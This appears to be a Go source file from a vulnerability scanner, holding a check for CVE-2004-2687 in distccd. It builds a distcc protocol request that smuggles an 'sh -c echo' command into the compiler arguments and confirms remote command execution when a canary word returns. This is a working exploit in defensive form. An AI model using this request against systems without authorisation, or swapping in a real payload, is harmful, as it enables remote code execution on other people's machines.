package check

import (
	"bytes"
	"context"
	"fmt"

	"github.com/vedette/vedette/internal/scanlink"
)

// execChecks look for services that run commands for anybody.
var execChecks = []check{
	{"distccd-command", []string{"cve"}, maybe("tcp", []uint16{3632}, "distccd"), distcc},
}

// distcc asks for a compilation that only writes a word (CVE-2004-2687) and looks for that word in its output.
func distcc(ctx context.Context, e *env) []scanlink.Finding {
	if !e.o.Active {
		return nil
	}
	word := canary()
	arguments := []string{"sh", "-c", "echo " + word, "#", "-c", "main.c", "-o", "main.o"}
	request := []byte(fmt.Sprintf("DIST00000001ARGC%08x", len(arguments)))
	for _, a := range arguments {
		request = fmt.Appendf(request, "ARGV%08x%s", len(a), a)
	}
	request = append(request, "DOTI00000000"...)
	reply, err := e.ask(ctx, request)
	if err != nil || !bytes.HasPrefix(reply, []byte("DONE")) || !bytes.Contains(distccOutput(reply), []byte(word)) {
		return nil
	}
	f := e.found("cve", request, reply, "The command echo was run and its output came back.")
	f.CVEs, f.QoDType = []string{"CVE-2004-2687"}, "exploit"
	f.Name = "distcc runs commands for anybody"
	return one(f)
}

// distccOutput is the part of an answer that the command wrote to its standard output.
func distccOutput(reply []byte) []byte {
	i := bytes.Index(reply, []byte("SOUT"))
	if i < 0 || len(reply) < i+12 {
		return nil
	}
	var size int
	if _, err := fmt.Sscanf(string(reply[i+4:i+12]), "%08x", &size); err != nil || size < 0 {
		return nil
	}
	rest := reply[i+12:]
	return rest[:min(size, len(rest))]
}
